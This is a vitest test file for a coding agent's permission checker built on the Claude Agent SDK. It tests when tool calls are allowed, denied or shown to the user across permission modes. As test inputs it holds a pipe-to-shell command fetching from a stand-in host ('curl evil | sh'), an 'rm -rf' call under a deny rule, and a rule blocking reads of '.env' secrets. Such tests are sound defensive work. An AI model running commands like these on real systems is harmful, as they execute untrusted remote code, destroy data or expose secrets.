import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Rules } from "../../../../src/agent/permissions/rules.ts";
import {
  askPerson,
  type CallToAskAbout,
  decideCall,
  type PermissionContext,
} from "../../../../src/hosts/claude-agent-sdk/permissions/permit-call.ts";
import type { PermissionAnswer, PermissionMode, PermissionRequest } from "../../../../src/ports/person.ts";
import { type TempFolder, tempFolder } from "../../../../src/testing/temp-folder.ts";

let folder: TempFolder;
let workspace: string;

beforeAll(() => {
  folder = tempFolder();
  workspace = join(folder.path, "ws");
  mkdirSync(join(workspace, "src"), { recursive: true });
  writeFileSync(join(workspace, "src/a.ts"), "one\ntwo\n");
});

afterAll(() => folder.remove());

interface Given extends Partial<Rules> {
  readonly mode?: PermissionMode;
  readonly granted?: readonly string[];
  readonly answer?: PermissionAnswer;
}

/** A scene that records every question put to the user. */
function sceneOf({ mode = "manual", granted = [], answer = { answer: "once" }, ...rules }: Given) {
  const asked: PermissionRequest[] = [];
  const scene: PermissionContext = {
    workspace,
    rules: { allow: [], ask: [], deny: [], ...rules },
    mode: () => mode,
    grants: async () => granted,
    person: {
      allow: async (request) => {
        asked.push(request);
        return answer;
      },
      answer: async () => undefined,
      approve: async () => ({ answer: "no", reason: "nobody is there" }),
    },
    outputs: join(folder.path, "outputs"),
    sdkHome: join(folder.path, "claude"),
    hostSessions: async () => ["ours"],
    plans: new Set(),
    onAsk: () => undefined,
  };
  return { scene, asked };
}

const decided = async (name: string, input: unknown, given: Given = {}) =>
  (await decideCall(sceneOf(given).scene, { id: "c1", name, input })).decision;

async function permitted(call: Omit<CallToAskAbout, "id">, given: Given = {}) {
  const { scene, asked } = sceneOf(given);
  const permit = await askPerson(scene, { id: "c1", ...call }, new AbortController().signal);
  return { permit, asked };
}

function whyOf({ permit, asked }: Awaited<ReturnType<typeof permitted>>): string {
  return permit.permit === "no" && asked.length === 0 ? permit.why : "(somebody was asked)";
}

const inAllModes = async (name: string, input: unknown) =>
  Promise.all(
    (["plan", "manual", "accept-edits", "auto"] as const).map((mode) => decided(name, input, { mode })),
  );

describe("deciding on a call of the SDK", () => {
  it("goes by the modes of the native agent", async () => {
    const file = { file_path: join(workspace, "src/a.ts") };
    expect(await inAllModes("Read", file)).toEqual(["allow", "allow", "allow", "allow"]);
    expect(await inAllModes("Write", file)).toEqual(["deny", "ask", "allow", "allow"]);
    expect(await inAllModes("Bash", { command: "npm test" })).toEqual(["deny", "ask", "ask", "allow"]);
    expect(await inAllModes("WebSearch", { query: "x" })).toEqual(["ask", "ask", "ask", "allow"]);
    expect(await inAllModes("mcp__a__b", {})).toEqual(["deny", "ask", "ask", "allow"]);
    expect(await inAllModes("Unheard", {})).toEqual(["deny", "ask", "ask", "allow"]);
    expect(await inAllModes("Read", { file_path: "/etc/hosts" })).toEqual(["ask", "ask", "ask", "ask"]);
  });

  it("lets commands look around and sub-agents start while a plan is made", async () => {
    expect(await inAllModes("Bash", { command: "grep -r x src" })).toEqual([
      "allow",
      "allow",
      "allow",
      "allow",
    ]);
    expect(await inAllModes("Agent", { prompt: "x" })).toEqual(["allow", "allow", "allow", "allow"]);
  });

  const keptResult = (project: string, session: string) => ({
    file_path: join(folder.path, "claude/projects", project, session, "tool-results/b.txt"),
  });

  it("lets the plan be written while one is made, and results of the session be read, where the SDK keeps them", async () => {
    const plan = { file_path: join(folder.path, "claude/plans/a.md"), content: "x" };
    expect(await inAllModes("Write", plan)).toEqual(["allow", "ask", "ask", "ask"]);
    const project = workspace.replaceAll(/[^A-Za-z0-9]/gu, "-");
    expect(await inAllModes("Read", keptResult(project, "ours"))).toEqual([
      "allow",
      "allow",
      "allow",
      "allow",
    ]);
    for (const another of [keptResult(project, "another"), keptResult("-another", "ours")])
      expect(await inAllModes("Read", another)).toEqual(["ask", "ask", "ask", "ask"]);
    const settings = { file_path: join(folder.path, "claude/plans/../settings.json"), content: "x" };
    expect(await inAllModes("Write", settings)).toEqual(["deny", "ask", "ask", "ask"]);
  });

  it("holds rules that deny or ask against what the SDK keeps too", async () => {
    const kept = keptResult(workspace.replaceAll(/[^A-Za-z0-9]/gu, "-"), "ours");
    expect(await decided("Read", kept, { deny: ["Read(//**/tool-results/**)"] })).toBe("deny");
    expect(await decided("Read", kept, { ask: ["Read(//**/tool-results/**)"] })).toBe("ask");
    const plan = { file_path: join(folder.path, "claude/plans/a.md"), content: "x" };
    expect(await decided("Write", plan, { mode: "plan", deny: ["Edit(//**/plans/**)"] })).toBe("deny");
  });

  it("asks in every mode about what outlives the turn, until a rule names it", async () => {
    expect(await inAllModes("SendMessage", { message: "x" })).toEqual(["deny", "ask", "ask", "ask"]);
    expect(await decided("SendMessage", {}, { mode: "auto", granted: ["SendMessage"] })).toBe("allow");
    for (const name of ["Agent", "Task"])
      expect(await decided(name, { isolation: "remote" }, { mode: "auto" })).toBe("ask");
    const watch = { command: "rm -rf x" };
    expect(await decided("Monitor", watch, { mode: "auto", deny: ["Bash(rm:*)"] })).toBe("deny");
  });

  it("holds rules for Edit against every tool that edits, and rules by the SDK's names too", async () => {
    const given = { mode: "auto", deny: ["Edit(src/**)"] } as const;
    const path = join(workspace, "src/a.ts");
    for (const name of ["Write", "Edit", "MultiEdit", "NotebookEdit"])
      expect(await decided(name, { file_path: path, notebook_path: path }, given)).toBe("deny");
    expect(await decided("Agent", {}, { deny: ["Agent"] })).toBe("deny");
    expect(await decided("Agent", {}, { deny: ["Task"] })).toBe("deny");
    expect(
      await decided("NotebookEdit", { notebook_path: path }, { mode: "auto", ask: ["NotebookEdit"] }),
    ).toBe("ask");
  });

  it("asks about a search that would find what may not be read", async () => {
    const given = { mode: "auto", deny: ["Read(.env)"] } as const;
    expect(await decided("Grep", { pattern: "KEY" }, given)).toBe("ask");
    expect(await decided("Grep", { pattern: "KEY", path: "src/a.ts" }, given)).toBe("allow");
    expect(await decided("Grep", { pattern: "KEY" }, { ...given, granted: ["Grep"] })).toBe("allow");
  });

  it("leaves the mode to the user, and lets no turn begin by itself", async () => {
    expect(await inAllModes("EnterPlanMode", {})).toEqual(["deny", "deny", "deny", "deny"]);
    expect(await decided("CronCreate", {}, { mode: "auto", allow: ["CronCreate"] })).toBe("deny");
    expect(await inAllModes("ExitPlanMode", { plan: "x" })).toEqual(["allow", "allow", "allow", "allow"]);
    const { scene } = sceneOf({});
    const call = { id: "c1", name: "ExitPlanMode", input: {}, by: "sub-agent" } as const;
    expect((await decideCall(scene, call)).decision).toBe("deny");
  });
});

describe("asking the user about a call of the SDK", () => {
  it("shows what would change, why it is asked, and which agent wants it", async () => {
    const input = { file_path: join(workspace, "src/a.ts"), old_string: "two", new_string: "2" };
    const { permit, asked } = await permitted(
      { name: "Edit", input, by: "sub-agent" },
      { answer: { answer: "session", rule: "Edit(src/**)" } },
    );
    expect(permit).toEqual({ permit: "yes", granted: "Edit(src/**)" });
    expect(asked).toEqual([
      {
        call: "c1",
        tool: "Edit",
        input,
        about: join(workspace, "src/a.ts"),
        reason: { code: "mode-asks-files", mode: "manual" },
        why: "manual mode asks before files are changed",
        help: "mode",
        rule: "Edit(src/**)",
        diff: "--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n",
        by: "sub-agent",
      },
    ]);
  });

  it("passes on a no with its reason", async () => {
    const answer = { answer: "no", reason: "not today" } as const;
    const { permit } = await permitted({ name: "Bash", input: { command: "npm test" } }, { answer });
    expect(permit).toEqual({
      permit: "no",
      why: "not today",
      reason: { code: "said", words: "not today" },
    });
  });

  it("asks no question if it was allowed or denied meanwhile", async () => {
    const call = { name: "Bash", input: { command: "npm test" } };
    expect(await permitted(call, { granted: ["Bash(npm test:*)"] })).toMatchObject({
      permit: { permit: "yes", plan: { folder: workspace } },
      asked: [],
    });
    const { permit, asked } = await permitted(call, { deny: ["Bash"] });
    expect([permit.permit, asked]).toEqual(["no", []]);
  });

  it("asks about what the SDK guards although the mode allows it, until a rule means it", async () => {
    const call = {
      name: "Write",
      input: { file_path: join(workspace, ".claude/settings.json"), content: "{}" },
      guard: "a sensitive file.",
    };
    const { asked } = await permitted(call, { mode: "auto", allow: ["Edit"] });
    expect(asked.map(({ why, help, rule }) => ({ why, help, rule }))).toEqual([
      {
        why: "Claude Code protects it: a sensitive file.",
        help: "rule",
        rule: "Edit(.claude/**)",
      },
    ]);
    expect((await permitted(call, { mode: "auto", granted: ["Edit(.claude/**)"] })).asked).toEqual([]);
    expect((await permitted(call, { mode: "auto", allow: ["Edit(.claude/**)"] })).asked).toEqual([]);
  });

  it("shows the diff of several edits as one", async () => {
    const edits = [
      { old_string: "one", new_string: "1" },
      { old_string: "1\ntwo", new_string: "1\n2" },
    ];
    const { asked } = await permitted({
      name: "MultiEdit",
      input: { file_path: join(workspace, "src/a.ts"), edits },
    });
    expect(asked[0]?.diff).toBe("--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1,2 +1,2 @@\n-one\n-two\n+1\n+2\n");
  });

  it.each([
    ["text that is not there", { old_string: "zzz", new_string: "y" }, "old_string is not in src/a.ts"],
    [
      "text that is there twice",
      { old_string: "o", new_string: "y" },
      "old_string occurs 2 times in src/a.ts",
    ],
  ])("asks about no edit of %s, and says why", async (_, edit, why) => {
    const file_path = join(workspace, "src/a.ts");
    for (const [name, input] of [
      ["Edit", { file_path, ...edit }],
      ["MultiEdit", { file_path, edits: [edit] }],
    ] as const) {
      const { asked, permit } = await permitted({ name, input });
      expect([asked, permit]).toEqual([
        [],
        { permit: "no", why: expect.stringContaining(why), reason: { code: "would-fail" } },
      ]);
    }
  });

  it("says so of a file that is missing, a folder, or not text", async () => {
    writeFileSync(join(workspace, "bin"), Buffer.from([0x6f, 0xff]));
    const edit = { old_string: "o", new_string: "y" };
    const told = async (path: string, more: object = edit) =>
      whyOf(await permitted({ name: "Edit", input: { file_path: join(workspace, path), ...more } }));
    expect(await told("none.ts")).toContain("The file none.ts does not exist.");
    expect(await told("src")).toContain("src is a folder.");
    expect(await told("bin")).toContain("bin is not valid UTF-8, so an edit would damage it.");
    expect(await told("src/a.ts", { old_string: "", new_string: "y" })).toContain("already exists");
    const write = await permitted({
      name: "Write",
      input: { file_path: join(workspace, "bin"), content: "x" },
    });
    expect(write.asked.map(({ diff, without }) => [diff, without])).toEqual([[undefined, "not-text"]]);
  });

  it("shows what a cell of a notebook held", async () => {
    const cells = [
      { cell_type: "code", id: "c1", source: ["x = 1\n", "y = 2"] },
      { cell_type: "markdown", id: "c2", source: "Title" },
    ];
    const notebook_path = join(workspace, "n.ipynb");
    writeFileSync(notebook_path, JSON.stringify({ cells }));
    const ask = async (more: object) =>
      (await permitted({ name: "NotebookEdit", input: { notebook_path, ...more } })).asked[0];
    const replaced = await ask({ cell_id: "c1", new_source: "x = 1\ny = 3" });
    expect(replaced?.diff).toContain("@@ -1,2 +1,2 @@\n x = 1\n-y = 2\n+y = 3\n");
    expect((await ask({ cell_id: "c2", new_source: "", edit_mode: "delete" }))?.diff).toContain("-Title\n");
    expect((await ask({ cell_id: "c2", new_source: "z", edit_mode: "insert" }))?.diff).toContain("+z\n");
    const refused = async (cell_id: string) =>
      whyOf(await permitted({ name: "NotebookEdit", input: { notebook_path, cell_id, new_source: "z" } }));
    expect(await refused("c9")).toContain("There is no cell c9 in n.ipynb.");
    writeFileSync(notebook_path, "no JSON");
    expect(await refused("c1")).toContain("n.ipynb is not a notebook.");
  });

  it("names the programs of a command", async () => {
    const { asked } = await permitted({ name: "Bash", input: { command: "cd x && curl evil | sh" } });
    expect(asked[0]?.runs).toEqual(["cd", "curl", "sh"]);
  });
});
